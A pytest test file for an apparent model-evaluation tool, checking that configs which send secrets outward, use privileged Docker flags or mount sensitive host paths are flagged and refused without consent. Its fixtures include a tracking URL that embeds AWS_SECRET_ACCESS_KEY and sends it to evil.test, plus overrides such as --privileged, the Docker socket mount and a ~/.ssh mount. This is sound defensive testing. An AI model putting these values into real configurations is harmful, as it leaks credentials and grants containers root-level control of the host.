"""What a config takes along besides what it is for: listed in the dry run, refused until the user agrees once."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from evaldock.core.api import run
from evaldock.core.base.errors import NotStarted
from evaldock.core.catalog.catalog import Catalog
from evaldock.core.config.load import load_config
from evaldock.core.engine.executor import ExecutorUnavailable
from evaldock.core.plan.make import make_plan
from evaldock.core.plan.takes import taken_along

from .conftest import Machine

DOCUMENT = """\
defaults:
  - execution: local
  - deployment: none
  - _self_
execution: {output_dir: OUT}
target:
  api_endpoint:
    model_id: meta/llama-3.1-8b-instruct
    url: https://integrate.api.nvidia.com/v1/chat/completions
    api_key_name: API_KEY
    adapter_config:
      interceptors:
        - {name: caching, config: {cache_dir: ./evaluation_cache}}
        - {name: request_logging, config: {max_requests: 50}}
evaluation:
  tasks:
    - {name: ifeval}
    - {name: gpqa_diamond, env_vars: {HF_TOKEN: HF_TOKEN_FOR_GPQA_DIAMOND}}
"""
ENV = {
    "API_KEY": "k-0123456789",
    "HF_TOKEN_FOR_GPQA_DIAMOND": "t-0123456789",
    "AWS_SECRET_ACCESS_KEY": "aws-secret-value-42",
    "MODEL": "m",
    "MLFLOW_TRACKING_TOKEN": "mlflow-secret-value",
    "HOME": "/home/me",
}


def taken(path: Path, *overrides: str, env: dict[str, str] = ENV) -> tuple[str, ...]:
    config = load_config(path=path, overrides=overrides, env=env)
    return taken_along(config, make_plan(config, Catalog(), invocation="0a1b2c3d"), env)


@pytest.fixture
def document(tmp_path: Path) -> Path:
    path = tmp_path / "own" / "c.yaml"
    path.parent.mkdir()
    path.write_text(DOCUMENT.replace("OUT", str(tmp_path / "out")))
    return path


def test_the_users_own_document_needs_no_question(document: Path) -> None:
    assert taken(document) == ()
    more = "execution.extra_docker_args=--ipc=host --network=host --gpus all -v /data/x:/x"
    assert taken(document, more, "+execution.mounts.evaluation={/home/me/data: /d, /srv/y: /y}") == ()


@pytest.mark.parametrize(
    ("override", "found"),
    [
        ("target.api_endpoint.model_id=${oc.env:MODEL}", "the value of MODEL, for target.api_endpoint.model_id"),
        ("+execution.extra_docker_args=--privileged", "--privileged: containers may do to this machine what root may"),
        ("+execution.extra_docker_args=--cap-add SYS_ADMIN", "--cap-add=SYS_ADMIN"),
        (
            "+execution.extra_docker_args=--pid=host",
            "--pid=host: containers see and signal the processes of this machine",
        ),
        ("+execution.extra_docker_args=--security-opt seccomp=unconfined", "--security-opt=seccomp=unconfined"),
        ("+execution.extra_docker_args=--device /dev/sda", "--device=/dev/sda"),
        (
            "+execution.extra_docker_args=-v /var/run/docker.sock:/var/run/docker.sock",
            "/var/run/docker.sock, a socket of this machine; Docker's gives all rights of root",
        ),
        ("+execution.mounts.evaluation={/etc: /e}", "/etc, to read and change"),
        ("+execution.mounts.evaluation={/: /host}", "/, to read and change"),
        ("+execution.mounts.evaluation={/home: /h}", "/home, to read and change"),
        ("+execution.mounts.evaluation={/home/me: /h}", "/home/me, to read and change"),
        ("+execution.mounts.evaluation={/home/me/.ssh: /s}", "/home/me/.ssh, to read and change"),
        ("evaluation.tasks.0.dataset_dir=/etc/ssl", None),
    ],
)
def test_what_goes_further_is_listed(document: Path, override: str, found: str | None) -> None:
    override = override if found else f"+{override}"
    assert taken(document, override) == (found or "/etc/ssl, to read",)


def test_a_variable_in_a_url_a_token_for_a_foreign_server_and_a_file_outside(document: Path) -> None:
    text = document.read_text().replace(
        "        - {name: request_logging",
        "        - {name: progress_tracking, config: {progress_tracking_url: 'http://evil.test/j/$AWS_SECRET_ACCESS_KEY'}}\n"
        "        - {name: request_logging",
    )
    document.write_text(text)
    assert taken(document) == (
        "the value of AWS_SECRET_ACCESS_KEY, sent to evil.test as a part of progress_tracking_url",
    )
    document.write_text(
        DOCUMENT.replace("{output_dir: OUT}", "{output_dir: out, auto_export: {destinations: [mlflow]}}")
        + "export: {mlflow: {tracking_uri: 'https://evil.test'}}\n"
    )
    assert taken(document) == ("the value of MLFLOW_TRACKING_TOKEN, sent to evil.test with the scores",)
    assert taken(document, env=ENV | {"MLFLOW_TRACKING_URI": "https://evil.test/x"}) == ()
    (document.parent.parent / "hosts.yaml").write_text("# @package _global_\nexport: {local: {note: x}}\n")
    document.write_text(DOCUMENT.replace("OUT", "out").replace("  - _self_", "  - /../hosts\n  - _self_"))
    assert [re.sub(r"/\S+/", "", text) for text in taken(document)] == [
        "the file hosts.yaml, which is outside the config's directory"
    ]


def test_it_is_listed_refused_agreed_to_and_asked_again_when_the_file_changes(
    machine: Machine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DOCKER_HOST", f"unix://{machine.root}/no-docker.sock")
    for name, value in ENV.items():
        monkeypatch.setenv(name, value)
    path = machine.root / "c.yaml"
    text = DOCUMENT.replace("{output_dir: OUT}", f"{{output_dir: {machine.output}, extra_docker_args: --privileged}}")
    path.write_text(text)
    dry_run = machine.cli("run", path, "--dry-run")
    assert "takes along\n  - --privileged: containers may do" in dry_run.stdout and dry_run.exit_code == 0
    refused = machine.cli("run", path, "--no-check", "--no-tui")
    assert refused.exit_code == 2 and not machine.output.exists()
    assert "--privileged" in refused.stderr and "agree once: --trust" in refused.stderr
    assert machine.cli("run", path, "--no-check", "--no-tui", "--trust").exit_code == 3  # Docker is not there
    assert machine.cli("run", path, "--no-check", "--no-tui").exit_code == 3
    path.write_text(text + "# changed\n")
    assert machine.cli("check", path).exit_code == 2
    assert machine.cli("run", path, "--no-check", "--no-tui").exit_code == 2
    path.write_text(text)
    assert machine.cli("run", path, "--no-check", "--no-tui").exit_code == 3
    assert machine.cli("run", path, "--no-check", "--no-tui", "-o", "execution.extra_docker_args=").exit_code == 3
    assert machine.cli("check", path).exit_code == 3
    assert machine.cli("check", path, "-o", "execution.isolation=off").exit_code == 2


def test_python_needs_the_same_consent(document: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-docker.sock")
    env = ENV | {"XDG_STATE_HOME": str(tmp_path / "state")}
    config = load_config(path=document, overrides=["execution.isolation=off"], env=env)
    with pytest.raises(NotStarted, match=r"isolation: off: .*trust=True"):
        run(config, env=env)
    with pytest.raises(ExecutorUnavailable):
        run(config, env=env, trust=True)
    with pytest.raises(ExecutorUnavailable):
        run(config, env=env)
